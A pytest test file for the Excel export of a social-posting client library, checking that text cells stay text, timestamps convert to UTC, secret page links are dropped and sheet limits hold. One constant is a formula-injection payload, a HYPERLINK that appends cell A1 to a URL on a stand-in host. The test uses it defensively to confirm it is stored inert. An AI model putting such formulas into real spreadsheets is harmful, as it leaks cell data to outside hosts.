"""Lists become Excel files, in which a stranger's text does not run."""

import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest

from publora_async import (
    ConfigurationError,
    Connection,
    ConnectionList,
    ManagedUser,
    ManagedUserList,
    ServerError,
    UserConnectionsList,
    UserFailed,
)
from publora_async._display import spreadsheet

EVIL = '=HYPERLINK("http://a.example/?"&A1,"x")'


def cells(path: Path) -> list[dict[str, tuple[object, str]]]:
    """Each row of the file: under the column's name a cell's value and its type."""
    head, *rows = openpyxl.load_workbook(path).active.iter_rows()
    names = [str(cell.value) for cell in head]
    return [
        {name: (cell.value, cell.data_type) for name, cell in zip(names, row, strict=True)}
        for row in rows
    ]


def test_accounts_go_into_a_spreadsheet_with_times_in_utc_and_text_as_text(tmp_path: Path) -> None:
    here = timezone(timedelta(hours=5, minutes=30))
    account = Connection(
        platform_id="telegram--100",
        username=EVIL,
        display_name="日本\ud800" + "x" * 40_000,
        access_token_expires_at=datetime(2026, 10, 9, 1, tzinfo=here),
        last_successful_post=datetime(1600, 1, 1, tzinfo=UTC),
    )
    ConnectionList([account]).to_excel(tmp_path / "a.xlsx")
    (row,) = cells(tmp_path / "a.xlsx")
    assert list(row) == list(account.to_row())
    assert row["platform_id"] == ("telegram--100", "s")
    assert row["username"] == (EVIL, "s")
    assert row["display_name"] == (("日本?" + "x" * 40_000)[:32_767], "s")
    assert row["needs_reconnect"] == (True, "b")
    assert row["access_token_expires_at"] == (datetime(2026, 10, 8, 19, 30), "d")  # noqa: DTZ001
    assert row["last_successful_post"] == ("1600-01-01 00:00:00+00:00", "s")
    assert row["profile_url"] == (None, "n")


def test_an_empty_list_has_its_columns(tmp_path: Path) -> None:
    ConnectionList().to_excel(str(tmp_path / "a.xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    columns = list(Connection(platform_id="").to_row())
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [columns]


def test_users_who_failed_are_rows_too(tmp_path: Path) -> None:
    failed = UserFailed("u1", ServerError(503, "Service unavailable"))
    UserConnectionsList([failed]).to_excel(tmp_path / "a.xlsx")
    (row,) = cells(tmp_path / "a.xlsx")
    assert {name: value for name, (value, _) in row.items() if value is not None} == {
        "user_id": "u1",
        "error": "HTTP 503: Service unavailable",
    }


def test_managed_users_go_into_a_spreadsheet_and_their_links_do_not(tmp_path: Path) -> None:
    user = ManagedUser(id="u1", daily_posts_left=3, connections_page_url="https://a.example/s3cret")
    ManagedUserList([user]).to_excel(tmp_path / "a.xlsx")
    (row,) = cells(tmp_path / "a.xlsx")
    assert (row["user_id"], row["daily_posts_left"]) == (("u1", "s"), (3, "n"))
    assert "s3cret" not in str(row)


def test_a_file_that_cannot_be_written_is_the_systems_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        ConnectionList().to_excel(tmp_path / "no" / "a.xlsx")


def test_more_rows_than_a_sheet_holds_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "_MOST_ROWS", 1)
    accounts = ConnectionList([Connection(platform_id="x-1")] * 2)
    with pytest.raises(ConfigurationError, match=r"^a sheet holds 1 rows, and these are 2$"):
        accounts.to_excel(tmp_path / "a.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_without_xlsxwriter_it_is_said_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(ImportError) as raised:
        ConnectionList().to_excel(tmp_path / "a.xlsx")
    assert str(raised.value) == "to_excel() needs xlsxwriter: pip install xlsxwriter"
